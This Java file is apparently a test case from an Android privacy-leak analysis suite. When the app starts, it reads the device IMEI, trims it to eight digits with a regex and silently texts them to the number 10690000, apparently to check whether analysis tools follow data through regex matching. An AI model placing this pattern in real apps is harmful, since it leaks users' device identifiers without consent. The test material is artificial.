package cn.privlens.suite.string_kept_by_regex;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Matcher m = Pattern.compile("(\\d{8})\\d*").matcher(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        if (m.find()) {
            SmsManager.getDefault().sendTextMessage("10690000", null, m.group(1), null, null);
        }
    }
}
